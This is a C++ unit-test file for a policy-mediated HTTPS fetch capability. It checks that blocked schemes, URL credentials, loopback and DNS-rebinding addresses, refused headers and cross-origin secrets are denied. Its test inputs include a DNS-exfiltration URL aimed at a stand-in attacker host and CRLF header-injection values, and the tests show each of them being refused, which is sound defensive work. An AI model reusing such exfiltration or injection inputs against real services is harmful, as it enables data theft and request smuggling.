// The mediated fetch (capability/fetch.h, issue 5 M4-M13) against a real HTTPS
// server on 127.0.0.1 (loopback/loopback.h) with a CA made at test time. Each
// test names the rule it guards; removing that rule makes it fail.
#include <gtest/gtest.h>

#include <stdlib.h>

#include <atomic>
#include <chrono>
#include <map>
#include <memory>
#include <mutex>
#include <thread>

#include <nlohmann/json.hpp>

#include "taskyon/capability/fetch.h"
#include "taskyon/loopback/loopback.h"
#include "test_util.h"

namespace taskyon::capability {
namespace {

using namespace std::chrono_literals;
using taskyon::testing::TempDir;
using Json = nlohmann::json;

class CapabilityFetch : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dir_ = new TempDir();
    loopback::ServerOptions options;
    options.dir = dir_->path();
    auto server = loopback::HttpsServer::start(options);
    ASSERT_TRUE(server) << server.error().describe();
    server_ = server->release();
  }
  static void TearDownTestSuite() {
    delete server_;
    server_ = nullptr;
    delete dir_;
    dir_ = nullptr;
  }

  static const loopback::HttpsServer& server() { return *server_; }

  // A context that admits the loopback server (allow 127.0.0.1/32 + the test
  // CA) and grants `granted` access classes on its origin with `limits`.
  FetchContext context(std::vector<Access> granted = {Access::read, Access::write}, FetchLimits limits = {}) {
    FetchContext c;
    c.rules.allow = {*Cidr::parse("127.0.0.1/32")};
    c.rules.ca_file = server().ca_file().string();
    const std::string origin = server().origin();
    const std::string named = "https://" + server().dns_name() + ":" + std::to_string(server().port());
    c.grant = [this, granted, limits, origin, named](std::string_view o, Access a) -> std::optional<FetchLimits> {
      grant_calls.fetch_add(1);
      if (o != origin && o != named) return std::nullopt;
      for (Access g : granted)
        if (g == a) return limits;
      return std::nullopt;
    };
    return c;
  }

  static FetchResult get(const std::string& url, const FetchContext& c, std::vector<Header> headers = {}) {
    return fetch(HttpRequest{.url = url, .method = "GET", .headers = std::move(headers), .body = {}}, c);
  }

  // Requests the server has served so far (/count requests are not counted).
  int served() {
    auto r = get(server().url("/count"), context());
    EXPECT_TRUE(r.response) << r.response.error().message;
    return r.response ? Json::parse(r.response->body).at("requests").get<int>() : -1;
  }

  static Json echo_of(const FetchResult& r) {
    EXPECT_TRUE(r.response) << (r.response ? "" : r.response.error().code + ": " + r.response.error().message);
    return r.response ? Json::parse(r.response->body) : Json();
  }

  // The values of header `name` (case-insensitive) that /echo received.
  static std::vector<std::string> received(const Json& echo, std::string_view name) {
    std::vector<std::string> out;
    for (const auto& pair : echo.at("headers")) {
      const std::string n = pair.at(0);
      if (n.size() == name.size() && strncasecmp(n.c_str(), std::string(name).c_str(), n.size()) == 0)
        out.push_back(pair.at(1));
    }
    return out;
  }

  static std::string code_of(const FetchResult& r) { return r.response ? "ok" : r.response.error().code; }

  std::atomic<int> grant_calls{0};

  static TempDir* dir_;
  static loopback::HttpsServer* server_;
};

TempDir* CapabilityFetch::dir_ = nullptr;
loopback::HttpsServer* CapabilityFetch::server_ = nullptr;

// An environment variable set for one scope.
class ScopedEnv {
 public:
  ScopedEnv(const char* name, const char* value) : name_(name) {
    if (const char* old = getenv(name)) old_ = old;
    if (value) setenv(name, value, 1);
    else unsetenv(name);
  }
  ~ScopedEnv() {
    if (old_) setenv(name_, old_->c_str(), 1);
    else unsetenv(name_);
  }

 private:
  const char* name_;
  std::optional<std::string> old_;
};

TEST_F(CapabilityFetch, NormalResponse) {
  const auto r = get(server().url("/ok"), context());
  ASSERT_TRUE(r.response) << r.response.error().message;
  EXPECT_EQ(r.response->status, 200);
  EXPECT_EQ(r.response->status_text, "OK");
  EXPECT_EQ(Json::parse(r.response->body), Json({{"ok", true}}));
  EXPECT_EQ(r.response->url, server().url("/ok"));
  bool json_type = false;
  for (const Header& h : r.response->headers) json_type = json_type || (h.name == "Content-Type" && h.value == "application/json");
  EXPECT_TRUE(json_type);
  EXPECT_EQ(r.decision.access, Access::read);
  EXPECT_EQ(r.decision.origin, server().origin());
}

TEST_F(CapabilityFetch, HandsLibcurlOnlyTheCanonicalHref) {
  // WHATWG reads the backslash as a slash and drops the tab; the request path
  // is the canonical one.
  const auto r = get(server().url("/e\tcho\\..\\echo?q=a b"), context());
  const Json echo = echo_of(r);
  EXPECT_EQ(echo.at("url"), "/echo?q=a%20b");
  EXPECT_EQ(r.response->url, server().url("/echo?q=a%20b"));
}

TEST_F(CapabilityFetch, M10_RedirectIsReturnedNotFollowed) {
  const auto r = get(server().url("/redirect"), context());
  ASSERT_TRUE(r.response) << r.response.error().message;
  EXPECT_EQ(r.response->status, 302);
  EXPECT_EQ(r.response->body, "");
  std::vector<std::string> location;
  for (const Header& h : r.response->headers)
    if (h.name == "Location") location.push_back(h.value);
  EXPECT_EQ(location, std::vector<std::string>{"/ok"});
}

TEST_F(CapabilityFetch, M11_SlowResponseTimesOut) {
  FetchLimits limits;
  limits.total_timeout = 500ms;
  const auto r = get(server().url("/slow?ms=10000"), context({Access::read}, limits));
  EXPECT_EQ(code_of(r), "timeout");
  // The same limit, a route that answers within it (generous for a loaded machine).
  limits.total_timeout = 5000ms;
  EXPECT_EQ(code_of(get(server().url("/slow?ms=50"), context({Access::read}, limits))), "ok");
}

TEST_F(CapabilityFetch, M11_CallDeadlineCapsTheTimeout) {
  FetchContext c = context();  // 30 s total by default
  c.deadline = std::chrono::steady_clock::now() + 300ms;
  EXPECT_EQ(code_of(get(server().url("/slow?ms=5000"), c)), "timeout");
  c.deadline = std::chrono::steady_clock::now() - 1ms;
  EXPECT_EQ(code_of(get(server().url("/ok"), c)), "timeout");
}

TEST_F(CapabilityFetch, M12_EndlessBodyIsTooLarge) {
  FetchLimits limits;
  limits.max_response_bytes = 1u << 20;
  const auto r = get(server().url("/endless"), context({Access::read}, limits));
  EXPECT_EQ(code_of(r), "too_large");
}

TEST_F(CapabilityFetch, M12_LargeBodyWithinAndOverTheLimit) {
  FetchLimits limits;
  limits.max_response_bytes = 100000;
  const auto within = get(server().url("/large?bytes=100000"), context({Access::read}, limits));
  ASSERT_TRUE(within.response) << within.response.error().message;
  EXPECT_EQ(within.response->body.size(), 100000u);
  // With Content-Length (refused before the body) and without (while streaming).
  EXPECT_EQ(code_of(get(server().url("/large?bytes=100001"), context({Access::read}, limits))), "too_large");
  EXPECT_EQ(code_of(get(server().url("/large?bytes=100001&chunked=1"), context({Access::read}, limits))), "too_large");
  EXPECT_EQ(code_of(get(server().url("/large?bytes=100000&chunked=1"), context({Access::read}, limits))), "ok");
}

TEST_F(CapabilityFetch, M12_RequestBodyLimit) {
  FetchLimits limits;
  limits.max_request_bytes = 1000;
  const int before = served();
  const auto over = fetch({.url = server().url("/echo"), .method = "POST", .headers = {}, .body = std::string(1001, 'a')},
                          context({Access::write}, limits));
  EXPECT_EQ(code_of(over), "too_large");
  EXPECT_EQ(served(), before);
  const auto at = fetch({.url = server().url("/echo"), .method = "POST", .headers = {}, .body = std::string(1000, 'a')},
                        context({Access::write}, limits));
  EXPECT_EQ(echo_of(at).at("body").get<std::string>().size(), 1000u);
}

TEST_F(CapabilityFetch, PostSendsBodyAsGivenWithoutInventedHeaders) {
  const auto r = fetch({.url = server().url("/echo"), .method = "post", .headers = {{"Content-Type", "application/json"}},
                        .body = R"({"a":1})"},
                       context({Access::write}));
  const Json echo = echo_of(r);
  EXPECT_EQ(echo.at("method"), "POST");
  EXPECT_EQ(echo.at("body"), R"({"a":1})");
  EXPECT_EQ(received(echo, "content-type"), std::vector<std::string>{"application/json"});
  EXPECT_TRUE(received(echo, "expect").empty());
  // No Content-Type given: libcurl's form default is not sent either.
  const Json bare = echo_of(fetch({.url = server().url("/echo"), .method = "PUT", .headers = {}, .body = "x"}, context()));
  EXPECT_EQ(bare.at("method"), "PUT");
  EXPECT_TRUE(received(bare, "content-type").empty());
}

TEST_F(CapabilityFetch, GetWithBodyIsInvalid) {
  const auto r = fetch({.url = server().url("/echo"), .method = "GET", .headers = {}, .body = "x"}, context());
  EXPECT_EQ(code_of(r), "invalid_request");
}

TEST_F(CapabilityFetch, M9_CookiesAreNeitherKeptNorSent) {
  const auto set = get(server().url("/cookie"), context());
  ASSERT_TRUE(set.response) << set.response.error().message;
  bool saw_set_cookie = false;
  for (const Header& h : set.response->headers) saw_set_cookie = saw_set_cookie || h.name == "Set-Cookie";
  EXPECT_TRUE(saw_set_cookie) << "Set-Cookie is returned to the tool as received";
  const Json echo = echo_of(get(server().url("/echo"), context()));
  EXPECT_TRUE(received(echo, "cookie").empty());
}

TEST_F(CapabilityFetch, M8_ReadGrantCannotPost) {
  const int before = served();
  const auto post = fetch({.url = server().url("/echo"), .method = "POST", .headers = {}, .body = "x"}, context({Access::read}));
  EXPECT_EQ(code_of(post), "denied");
  EXPECT_EQ(post.decision.access, Access::write);
  EXPECT_EQ(served(), before);
  EXPECT_EQ(code_of(get(server().url("/ok"), context({Access::read}))), "ok");
  // DELETE and an unknown token are write too.
  EXPECT_EQ(code_of(fetch({.url = server().url("/echo"), .method = "DELETE", .headers = {}, .body = {}}, context({Access::read}))), "denied");
  EXPECT_EQ(code_of(fetch({.url = server().url("/echo"), .method = "PURGE", .headers = {}, .body = {}}, context({Access::read}))), "denied");
}

TEST_F(CapabilityFetch, M8_NoGrantIsDenied) {
  const int before = served();
  EXPECT_EQ(code_of(get(server().url("/ok"), context({}))), "denied");
  FetchContext none = context();
  none.grant = nullptr;
  EXPECT_EQ(code_of(get(server().url("/ok"), none)), "denied");
  EXPECT_EQ(served(), before);
}

TEST_F(CapabilityFetch, M7_ConnectTraceTrackAreBlocked) {
  for (const char* method : {"CONNECT", "TRACE", "track"}) {
    FetchContext c = context();
    const int calls = grant_calls.load();
    const auto r = fetch({.url = server().url("/echo"), .method = method, .headers = {}, .body = {}}, c);
    EXPECT_EQ(code_of(r), "policy_blocked") << method;
    EXPECT_EQ(grant_calls.load(), calls) << "the grant is never consulted for a refused method";
  }
  EXPECT_EQ(code_of(fetch({.url = server().url("/echo"), .method = "GE T", .headers = {}, .body = {}}, context())),
            "invalid_request");
}

TEST_F(CapabilityFetch, M4_HttpIsBlocked) {
  const auto r = get("http://127.0.0.1:" + std::to_string(server().port()) + "/ok", context());
  EXPECT_EQ(code_of(r), "policy_blocked");
  EXPECT_EQ(r.decision.reason_class, ReasonClass::scheme);
}

TEST_F(CapabilityFetch, M5_CredentialsInUrlAreBlocked) {
  const auto r = get("https://user:hunter2@127.0.0.1:" + std::to_string(server().port()) + "/echo", context());
  EXPECT_EQ(code_of(r), "policy_blocked");
  EXPECT_EQ(r.decision.reason_class, ReasonClass::credentials);
  EXPECT_EQ(r.response.error().message.find("hunter2"), std::string::npos);
  EXPECT_EQ(r.decision.href.find("hunter2"), std::string::npos);
}

TEST_F(CapabilityFetch, M6_LoopbackNeedsTheAllowRule) {
  const int before = served();
  FetchContext c = context();
  c.rules.allow.clear();
  c.resolve = [](std::string_view) { return std::vector<IpAddress>{*IpAddress::parse("127.0.0.1")}; };
  const auto named = get(server().named_url("/ok"), c);
  EXPECT_EQ(code_of(named), "policy_blocked");
  EXPECT_EQ(named.decision.reason_class, ReasonClass::loopback);
  EXPECT_EQ(code_of(get(server().url("/ok"), c)), "policy_blocked");  // the literal too
  EXPECT_EQ(served(), before);

  // With `allow 127.0.0.1/32` and the test CA, the same name works.
  c.rules.allow = {*Cidr::parse("127.0.0.1/32")};
  const auto admitted = get(server().named_url("/echo"), c);
  const Json echo = echo_of(admitted);
  EXPECT_EQ(received(echo, "host"), std::vector<std::string>{server().dns_name() + ":" + std::to_string(server().port())});
}

TEST_F(CapabilityFetch, M6_EveryAnswerMustPass) {
  FetchContext c = context();
  c.rules.allow.clear();
  c.resolve = [](std::string_view) {
    return std::vector<IpAddress>{*IpAddress::parse("93.184.215.14"), *IpAddress::parse("127.0.0.1")};
  };
  EXPECT_EQ(code_of(get(server().named_url("/ok"), c)), "policy_blocked");
}

TEST_F(CapabilityFetch, M6_LocalhostStaysRefusedUnderTheAllowRule) {
  const auto r = get("https://localhost:" + std::to_string(server().port()) + "/ok", context());
  EXPECT_EQ(code_of(r), "policy_blocked");
  EXPECT_EQ(r.decision.reason_class, ReasonClass::loopback);
}

TEST_F(CapabilityFetch, M6_ConnectTimeCheckRefusesAnAddressTheDecisionNeverSaw) {
  // The decision sees a public address; the connection is pinned to
  // 127.0.0.1 behind its back (what DNS rebinding does). Even with the allow
  // rule and the CA that would make 127.0.0.1 work, the connect is refused.
  const int before = served();
  FetchContext c = context();
  c.resolve = [](std::string_view) { return std::vector<IpAddress>{*IpAddress::parse("93.184.215.14")}; };
  c.rules.unchecked_pin_for_tests = {*IpAddress::parse("127.0.0.1")};
  const auto r = get(server().named_url("/ok"), c);
  EXPECT_EQ(r.decision.verdict, Verdict::allow);
  ASSERT_EQ(code_of(r), "policy_blocked");
  EXPECT_NE(r.response.error().message.find("connect time"), std::string::npos) << r.response.error().message;
  EXPECT_EQ(served(), before);
}

// DESIGN §6 (4)-(5), issue 12.2: the grant comes before any resolution.
// The resolver runs on a worker that may outlive fetch(): it owns its counter.
Resolver counting(std::shared_ptr<std::atomic<int>> lookups, std::vector<IpAddress> answers,
                  std::chrono::milliseconds delay = 0ms) {
  return [lookups, answers, delay](std::string_view) {
    lookups->fetch_add(1);
    if (delay > 0ms) std::this_thread::sleep_for(delay);
    return answers;
  };
}

TEST_F(CapabilityFetch, M6_NoNameIsResolvedBeforeTheGrant) {
  auto lookups = std::make_shared<std::atomic<int>>(0);
  FetchContext none = context({});
  none.resolve = counting(lookups, {*IpAddress::parse("127.0.0.1")});
  // An ungranted origin: denied, and its name never reaches a resolver (the
  // data in a query name cannot leave).
  EXPECT_EQ(code_of(get("https://exfil-6b6579.attacker.example/ok", none)), "denied");
  EXPECT_EQ(code_of(get(server().named_url("/ok"), none)), "denied");
  // Refused before the grant, so never resolved either: a bad port, a write
  // method without a write grant, a refused method.
  EXPECT_EQ(code_of(get("https://attacker.example:22/", none)), "policy_blocked");
  FetchContext read_only = context({Access::read});
  read_only.resolve = none.resolve;
  EXPECT_EQ(code_of(fetch({.url = server().named_url("/echo"), .method = "POST", .headers = {}, .body = {}}, read_only)),
            "denied");
  EXPECT_EQ(code_of(fetch({.url = server().named_url("/echo"), .method = "TRACE", .headers = {}, .body = {}}, read_only)),
            "policy_blocked");
  EXPECT_EQ(lookups->load(), 0);
  // The granted origin is resolved, once.
  EXPECT_EQ(code_of(get(server().named_url("/ok"), read_only)), "ok");
  EXPECT_EQ(lookups->load(), 1);
}

TEST_F(CapabilityFetch, M6_ARefusalShowsTheToolNoResolvedAddress) {
  auto lookups = std::make_shared<std::atomic<int>>(0);
  FetchContext c = context({Access::read});
  c.resolve = counting(lookups, {*IpAddress::parse("93.184.215.14"), *IpAddress::parse("10.201.37.4")});
  const auto r = get(server().named_url("/ok"), c);
  ASSERT_EQ(code_of(r), "policy_blocked");
  EXPECT_EQ(r.decision.reason_class, ReasonClass::private_network);
  const auto& failure = r.response.error();
  EXPECT_EQ(failure.message.find("10.201"), std::string::npos) << failure.message;
  EXPECT_EQ(failure.message.find("93.184"), std::string::npos) << failure.message;
  EXPECT_NE(failure.detail.find("10.201.37.4"), std::string::npos) << failure.detail;  // for the audit log
}

TEST_F(CapabilityFetch, M6_ResolutionIsBoundedByTheRequestsTimeout) {
  auto lookups = std::make_shared<std::atomic<int>>(0);
  FetchLimits limits;
  limits.total_timeout = 300ms;
  FetchContext c = context({Access::read}, limits);
  c.resolve = counting(lookups, {}, 3000ms);  // a resolver that answers nothing, late
  const auto r = get(server().named_url("/ok"), c);
  EXPECT_EQ(code_of(r), "timeout") << r.response.error().message;  // unbounded: "network" after 3 s
  EXPECT_EQ(lookups->load(), 1);

  FetchContext d = context({Access::read});
  d.resolve = counting(lookups, {}, 3000ms);
  d.deadline = std::chrono::steady_clock::now() + 300ms;  // the call's deadline bounds it too
  EXPECT_EQ(code_of(get(server().named_url("/ok"), d)), "timeout");
}

// Lookups run on the process's reused workers (base/workers.h): one that
// outlived its request still holds its worker, and the next lookup gets
// another at once.
TEST_F(CapabilityFetch, M6_AStuckResolutionDoesNotHoldUpTheNext) {
  auto stuck = std::make_shared<std::atomic<int>>(0);
  FetchLimits limits;
  limits.total_timeout = 200ms;
  FetchContext c = context({Access::read}, limits);
  c.resolve = counting(stuck, {}, 3000ms);
  EXPECT_EQ(code_of(get(server().named_url("/ok"), c)), "timeout");
  ASSERT_EQ(stuck->load(), 1);  // still sleeping on its worker
  auto quick = std::make_shared<std::atomic<int>>(0);
  limits.total_timeout = 2000ms;
  FetchContext d = context({Access::read}, limits);
  d.resolve = counting(quick, {*IpAddress::parse("127.0.0.1")});
  const auto r = get(server().named_url("/ok"), d);
  EXPECT_EQ(code_of(r), "ok") << r.response.error().message;  // behind the stuck one: "timeout"
  EXPECT_EQ(quick->load(), 1);
}

TEST_F(CapabilityFetch, M6_ResolutionIsCancellable) {
  auto lookups = std::make_shared<std::atomic<int>>(0);
  std::atomic<bool> cancel{false};
  FetchContext c = context({Access::read});
  c.resolve = counting(lookups, {}, 3000ms);
  c.cancelled = &cancel;
  std::thread canceller([&] {
    std::this_thread::sleep_for(200ms);
    cancel.store(true);
  });
  const auto r = get(server().named_url("/ok"), c);
  canceller.join();
  EXPECT_EQ(code_of(r), "cancelled");
}

TEST_F(CapabilityFetch, TlsIsAlwaysVerified) {
  FetchContext c = context();
  c.rules.ca_file.clear();  // the system store does not know the test CA
  const auto r = get(server().url("/ok"), c);
  EXPECT_EQ(code_of(r), "network");
}

TEST_F(CapabilityFetch, M13_CancelledFromAnotherThread) {
  FetchLimits limits;
  limits.max_response_bytes = std::size_t{1} << 40;
  for (const char* route : {"/endless", "/slow?ms=20000"}) {
    std::atomic<bool> cancel{false};
    FetchContext c = context({Access::read}, limits);
    c.cancelled = &cancel;
    std::thread canceller([&] {
      std::this_thread::sleep_for(300ms);
      cancel.store(true);
    });
    const auto r = get(server().url(route), c);
    canceller.join();
    EXPECT_EQ(code_of(r), "cancelled") << route;
  }
}

TEST_F(CapabilityFetch, RefusedAndInvalidHeaders) {
  const int before = served();
  for (const char* name : {"Cookie", "cookie2", "Host", "Proxy-Authorization", "proxy-foo", "Connection", "Keep-Alive",
                           "Transfer-Encoding", "Content-Length", "TE", "Trailer", "Upgrade", "Expect",
                           "X-HTTP-Method-Override"}) {
    const auto r = get(server().url("/echo"), context(), {{name, "x"}});
    EXPECT_EQ(code_of(r), "policy_blocked") << name;
  }
  EXPECT_EQ(code_of(get(server().url("/echo"), context(), {{"Bad Name", "x"}})), "invalid_request");
  EXPECT_EQ(code_of(get(server().url("/echo"), context(), {{"", "x"}})), "invalid_request");
  EXPECT_EQ(code_of(get(server().url("/echo"), context(), {{"X-A", "1\r\nHost: evil"}})), "invalid_request");
  EXPECT_EQ(code_of(get(server().url("/echo"), context(), {{"X-A", std::string("a\0b", 3)}})), "invalid_request");
  EXPECT_EQ(code_of(get(server().url("/echo"), context(), {{"X-A", "{{secret:}}"}})), "invalid_request");
  EXPECT_EQ(served(), before);

  // Ordinary headers go through as given; Authorization is the tool's own.
  const Json echo = echo_of(get(server().url("/echo"), context(),
                                {{"Authorization", "Bearer abc"}, {"X-Empty", ""}, {"Accept", " text/plain "}}));
  EXPECT_EQ(received(echo, "authorization"), std::vector<std::string>{"Bearer abc"});
  EXPECT_EQ(received(echo, "x-empty"), std::vector<std::string>{""});
  EXPECT_EQ(received(echo, "accept"), std::vector<std::string>{"text/plain"});
}

struct SecretStore {
  std::map<std::pair<std::string, std::string>, std::string> values;  // (origin, name) -> value
  std::vector<std::string> asked;                                       // "origin name"
  SecretLookup lookup() {
    return [this](std::string_view origin, std::string_view name) -> std::optional<std::string> {
      asked.push_back(std::string(origin) + " " + std::string(name));
      auto it = values.find({std::string(origin), std::string(name)});
      if (it == values.end()) return std::nullopt;
      return it->second;
    };
  }
};

TEST_F(CapabilityFetch, SecretIsSubstitutedForTheGrantedOrigin) {
  SecretStore store;
  store.values[{server().origin(), "TOKEN"}] = "s3cr3t-value";
  FetchContext c = context();
  c.secret = store.lookup();
  const auto r = get(server().url("/echo"), c, {{"Authorization", "Bearer {{secret:TOKEN}}"}, {"X-Two", "{{secret:TOKEN}}:{{secret:TOKEN}}"}});
  const Json echo = echo_of(r);
  EXPECT_EQ(received(echo, "authorization"), std::vector<std::string>{"Bearer s3cr3t-value"});
  EXPECT_EQ(received(echo, "x-two"), std::vector<std::string>{"s3cr3t-value:s3cr3t-value"});
  ASSERT_FALSE(store.asked.empty());
  EXPECT_EQ(store.asked.front(), server().origin() + " TOKEN");
  EXPECT_EQ(r.decision.reason.find("s3cr3t"), std::string::npos);
}

TEST_F(CapabilityFetch, SecretIsNotLookedUpWithoutAGrant) {
  SecretStore store;
  store.values[{server().origin(), "TOKEN"}] = "s3cr3t-value";
  FetchContext c = context({Access::read});
  c.secret = store.lookup();
  const auto r = fetch({.url = server().url("/echo"), .method = "POST", .headers = {{"Authorization", "{{secret:TOKEN}}"}}, .body = {}}, c);
  EXPECT_EQ(code_of(r), "denied");
  EXPECT_TRUE(store.asked.empty());
  EXPECT_EQ(r.response.error().message.find("s3cr3t"), std::string::npos);
}

TEST_F(CapabilityFetch, SecretOfAnotherOriginIsUnknown) {
  SecretStore store;
  store.values[{"https://api.example.com", "TOKEN"}] = "s3cr3t-value";
  FetchContext c = context();
  c.secret = store.lookup();
  const int before = served();
  const auto r = get(server().url("/echo"), c, {{"Authorization", "Bearer {{secret:TOKEN}}"}});
  EXPECT_EQ(code_of(r), "denied");
  EXPECT_EQ(r.response.error().message.find("s3cr3t"), std::string::npos);
  EXPECT_EQ(served(), before);
}

TEST_F(CapabilityFetch, SecretThatWouldSplitAHeaderIsRefusedWithoutShowingIt) {
  SecretStore store;
  store.values[{server().origin(), "TOKEN"}] = "s3cr3t\r\nHost: evil";
  FetchContext c = context();
  c.secret = store.lookup();
  const auto r = get(server().url("/echo"), c, {{"Authorization", "{{secret:TOKEN}}"}});
  EXPECT_EQ(code_of(r), "invalid_request");
  EXPECT_EQ(r.response.error().message.find("s3cr3t"), std::string::npos);
}

TEST_F(CapabilityFetch, M9_ProxyEnvironmentIsIgnored) {
  const char* bogus = "http://127.0.0.1:9";
  ScopedEnv a("https_proxy", bogus), b("HTTPS_PROXY", bogus), d("ALL_PROXY", bogus), e("all_proxy", bogus),
      f("no_proxy", nullptr), g("NO_PROXY", nullptr);
  const auto r = get(server().url("/ok"), context());
  EXPECT_EQ(code_of(r), "ok") << (r.response ? "" : r.response.error().message);
}

TEST_F(CapabilityFetch, M9_NetrcIsIgnored) {
  TempDir home;
  home.write(".netrc", "machine 127.0.0.1 login netrc-user password netrc-password\n");
  ScopedEnv a("HOME", home.path().c_str()), b("NETRC", (home.path() / ".netrc").c_str());
  const Json echo = echo_of(get(server().url("/echo"), context()));
  EXPECT_TRUE(received(echo, "authorization").empty());
}

TEST(CapabilityFetchRules, RefusedHeaderTable) {
  EXPECT_NE(refused_header("COOKIE"), nullptr);
  EXPECT_NE(refused_header("Proxy-Connection"), nullptr);
  EXPECT_EQ(refused_header("Authorization"), nullptr);
  EXPECT_EQ(refused_header("Cookies"), nullptr);
  EXPECT_EQ(refused_header("Hostname"), nullptr);
}

TEST(CapabilityFetchRules, Cidr) {
  const auto block = Cidr::parse("127.0.0.0/8");
  ASSERT_TRUE(block);
  EXPECT_TRUE(block->contains(*IpAddress::parse("127.1.2.3")));
  EXPECT_FALSE(block->contains(*IpAddress::parse("128.0.0.1")));
  EXPECT_FALSE(block->contains(*IpAddress::parse("::ffff:127.0.0.1")));
  EXPECT_TRUE(Cidr::parse("::1/128")->contains(*IpAddress::parse("::1")));
  EXPECT_EQ(Cidr::parse("::1")->prefix, 128);
  EXPECT_FALSE(Cidr::parse("127.0.0.1/8"));  // host bits set
  EXPECT_FALSE(Cidr::parse("127.0.0.1/33"));
  EXPECT_FALSE(Cidr::parse("127.0.0.1/08"));
  EXPECT_FALSE(Cidr::parse("localhost/32"));
  EXPECT_EQ(Cidr::parse("10.0.0.0/8")->to_string(), "10.0.0.0/8");
}

}  // namespace
}  // namespace taskyon::capability
